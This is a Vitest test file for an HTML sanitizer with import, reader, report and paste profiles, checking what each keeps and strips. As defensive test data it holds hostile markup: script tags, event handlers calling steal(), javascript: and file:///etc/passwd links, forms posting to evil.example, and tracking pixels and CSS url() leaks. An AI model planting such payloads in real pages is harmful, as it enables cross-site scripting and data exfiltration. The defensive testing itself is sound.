// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { originalPageSrcdoc } from './savedPage';
import { followableHref, sanitizeHtml, type SanitizeProfile } from './sanitize';

describe('the import profile', () => {
  it('removes scripts, event handlers, frames and javascript: links', () => {
    const clean = sanitizeHtml(`
      <p onclick="steal()">Text<script>steal()</script></p>
      <img src="x" onerror="steal()">
      <iframe src="https://evil.example/"></iframe>
      <a href="javascript:steal()">link</a>
      <object data="x.swf"></object><embed src="x.swf">
      <form action="https://evil.example/"><input name="q"></form>`, 'import');
    expect(clean).not.toMatch(/script|onclick|onerror|iframe|javascript:|object|embed|<form|<input/i);
    expect(clean).toContain('Text');
    expect(clean).toContain('link');
  });

  it('removes every reference to a remote resource, so nothing is fetched', () => {
    const clean = sanitizeHtml(`
      <img src="https://tracker.example/pixel.gif" alt="">
      <img src="//cdn.example/photo.jpg" alt="Harbour at night">
      <img srcset="https://cdn.example/a.jpg 1x, https://cdn.example/b.jpg 2x">
      <p style="background: url(https://tracker.example/bg.png)">Styled</p>
      <div style="color: red">Red</div>
      <link rel="stylesheet" href="https://cdn.example/site.css">
      <style>@import url(https://cdn.example/x.css); body { background: url(https://t.example/y) }</style>
      <video poster="https://cdn.example/poster.jpg"></video>`, 'import');
    expect(clean).not.toMatch(/tracker\.example|cdn\.example|t\.example|url\(|@import/);
    expect(clean).toContain('[image: Harbour at night]');
    expect(clean).toContain('Styled');
    expect(clean).toContain('style="color: red"');
  });

  it('keeps no style that names a remote address, even where no browser would fetch it (found by the random hostile markup)', () => {
    const clean = sanitizeHtml('<a><a style="0;url=http://leak.invalid/p">x</a><p style="color: red">kept</p>', 'import');
    expect(clean).not.toContain('leak.invalid');
    expect(clean).toContain('style="color: red"');
    expect(originalPageSrcdoc('<p style="--x: http\\3a //leak.invalid/q; color: red">kept</p>')).not.toContain('leak.invalid');
  });

  it('keeps embedded images and ordinary links, which open outside the app', () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const clean = sanitizeHtml(`<img src="${pixel}" alt="map"><a href="https://example.org/report">report</a>`, 'import');
    expect(clean).toContain(`src="${pixel}"`);
    expect(clean).toContain('href="https://example.org/report"');
    expect(clean).toContain('rel="noopener noreferrer nofollow"');
  });

  it('keeps the structure of the article: headings, lists, tables, quotes', () => {
    const html = '<h2>Findings</h2><ul><li>One</li></ul><table><tbody><tr><td>Cell</td></tr></tbody></table><blockquote>Quote</blockquote>';
    expect(sanitizeHtml(html, 'import')).toBe(html);
  });
});

const PROFILES: SanitizeProfile[] = ['import', 'reader', 'report', 'paste'];

/** One of each way a page could run something, fetch something or send something. */
const HOSTILE = `
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://tracker.example/s.css">
<style>@import url("https://tracker.example/i.css"); p { background: url(https://tracker.example/bg.png) }</style>
<h2 onclick="steal()">Minutes</h2><script>steal()</script><script src="https://tracker.example/t.js"></script>
<p style="background-image: url('//tracker.example/p.png')">Overrun of forty per cent.</p>
<p style="background-image: image-set('https://tracker.example/set.png' 1x)">Second paragraph.</p>
<img src="https://tracker.example/p.gif" onerror="steal()" alt="Chart">
<img src="x" srcset="https://tracker.example/1x.gif 1x, https://tracker.example/2x.gif 2x" alt="Photo">
<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PnN0ZWFsKCk8L3NjcmlwdD48L3N2Zz4=" alt="Drawing">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="Embedded">
<a href="javascript:steal()">run</a> <a href="https://example.org/minutes" ping="https://tracker.example/ping">the minutes</a>
<iframe src="https://evil.example/frame" srcdoc="<img src=https://tracker.example/n.gif>"></iframe>
<form action="https://evil.example/collect"><input name="password"><button formaction="https://evil.example/b">Send</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<svg><image href="https://tracker.example/s.svg"/></svg><video poster="https://tracker.example/v.jpg"></video>
<table background="https://tracker.example/t.png"><tbody><tr><td>Cell</td></tr></tbody></table>`;

const REMOTE = /(?:https?:)?\/\/(?:tracker|evil)\.example/;

describe.each(PROFILES)('the %s profile, given a hostile page', (profile) => {
  const clean = sanitizeHtml(HOSTILE, profile);
  const page = new DOMParser().parseFromString(clean, 'text/html');

  it('keeps nothing that runs: no script, event handler, javascript: link, frame, object or form', () => {
    expect(clean).not.toMatch(/<script|onclick|onerror|javascript:|<iframe|srcdoc|<object|<embed|<form|<input|<button/i);
  });

  it('keeps no reference to anything remote: no image, srcset, stylesheet, CSS url() or image-set, poster or ping', () => {
    expect(clean).not.toMatch(REMOTE);
    expect(clean).not.toMatch(/url\(|image-set|@import|<style|<link|<base|<meta|<svg|<video|srcset|ping=/i);
    // Beside links, the only address left is the embedded picture's.
    const addresses = [...page.body.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => name !== 'href' && /^\s*(?:[a-z][a-z0-9+.-]*:|\/\/)/i.test(value))
        .map(({ name, value }) => `${element.localName} ${name}=${value}`),
    );
    expect(addresses).toEqual(['img src=data:image/png;base64,iVBORw0KGgo=']);
  });

  it('keeps the text, images embedded in the file (not SVG, which can hold scripts) and the link to follow', () => {
    expect(page.body.textContent).toContain('Minutes');
    expect(page.body.textContent).toContain('Overrun of forty per cent.');
    expect(page.body.textContent).toContain('[image: Chart]');
    expect(page.body.textContent).toContain('[image: Drawing]');
    expect(page.body.textContent).toContain('Cell');
    expect([...page.images].map((image) => image.alt)).toEqual(['Embedded']);
    expect([...page.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'))).toEqual(['https://example.org/minutes']);
  });
});

describe('what each profile keeps, as declared differences from one base', () => {
  const PAGE =
    '<section class="lead" id="top" style="color: red" role="note" aria-label="Lead"><h1>Findings</h1><h5>Note</h5>' +
    '<p>See <a href="#top">above</a> and <a href="https://example.org/a" target="_self">the source</a>.</p></section>';

  it('import keeps the page’s own structure, classes and plain styles; links open outside with nofollow', () => {
    expect(sanitizeHtml(PAGE, 'import')).toBe(
      '<section class="lead" id="top" style="color: red" role="note" aria-label="Lead"><h1>Findings</h1><h5>Note</h5>' +
        '<p>See <a href="#top" rel="noopener noreferrer nofollow" target="_blank">above</a> and ' +
        '<a href="https://example.org/a" rel="noopener noreferrer nofollow" target="_blank">the source</a>.</p></section>',
    );
  });

  it('reader drops the page’s styling, landmarks, roles and in-page links, and moves headings under its title', () => {
    expect(sanitizeHtml(PAGE, 'reader')).toBe(
      '<h3>Findings</h3><h6>Note</h6><p>See <a>above</a> and <a href="https://example.org/a" rel="noopener noreferrer">the source</a>.</p>',
    );
  });

  it('report keeps what the reader keeps, with headings at their own level', () => {
    expect(sanitizeHtml(PAGE, 'report')).toBe(
      '<h1>Findings</h1><h5>Note</h5><p>See <a>above</a> and <a href="https://example.org/a" rel="noopener noreferrer">the source</a>.</p>',
    );
  });

  it('report keeps the rich text TipTap stores: paragraphs, marks, lists, quotes, code and links', () => {
    const richText =
      '<h2>Summary</h2><p>The <strong>harbour</strong> <em>ledger</em> <s>was</s> <code>LQ-7</code><br>missing.</p>' +
      '<ul><li><p>One</p></li></ul><ol start="3"><li><p>Three</p></li></ol><blockquote><p>Quoted</p></blockquote>' +
      '<pre><code>raw</code></pre><hr><p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/">Source</a></p>';
    expect(sanitizeHtml(richText, 'report')).toBe(
      richText.replace('<a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/">', '<a rel="noopener noreferrer" href="https://example.org/">'),
    );
  });
});

describe.each(PROFILES)('the %s profile, given plain attribute values', (profile) => {
  it('keeps table spans, list numbering, language and direction', () => {
    const html =
      '<table><tbody><tr><td colspan="2" rowspan="3">Total</td></tr></tbody></table><ol start="4" reversed=""><li>Four</li></ol>' +
      '<p lang="ar" dir="rtl">نص</p><time datetime="2021-03-09">9 March</time>';
    expect(sanitizeHtml(html, profile)).toBe(html);
  });

  it('still refuses addresses with any other scheme', () => {
    const clean = sanitizeHtml(
      '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>x()</script>">b</a><a href=" JaVaScRiPt:x()">c</a>' +
        '<a href="file:///etc/passwd">d</a><blockquote cite="ftp://evil.example/">q</blockquote>',
      profile,
    );
    expect(clean).not.toMatch(/vbscript|data:text|javascript|file:|ftp:/i);
  });
});

describe('followableHref', () => {
  it('gives web and mail addresses, and nothing for other links', () => {
    const link = (href: string) => Object.assign(document.createElement('a'), { href });
    expect(followableHref(link(' https://example.org/a '))).toBe('https://example.org/a');
    expect(followableHref(link('mailto:desk@example.org'))).toBe('mailto:desk@example.org');
    expect(followableHref(link('#top'))).toBeNull();
    expect(followableHref(document.createElement('a'))).toBeNull();
  });
});

describe('the paste profile', () => {
  it('keeps the editor’s data attributes, drops one that points off the machine, and moves headings down a level', () => {
    const clean = sanitizeHtml(
      '<h1>Title</h1><ul data-type="taskList" data-src="https://tracker.example/p.gif"><li data-checked="true" onclick="steal()">Task</li></ul>',
      'paste',
    );
    expect(clean).toBe('<h2>Title</h2><ul data-type="taskList"><li data-checked="true">Task</li></ul>');
  });
});
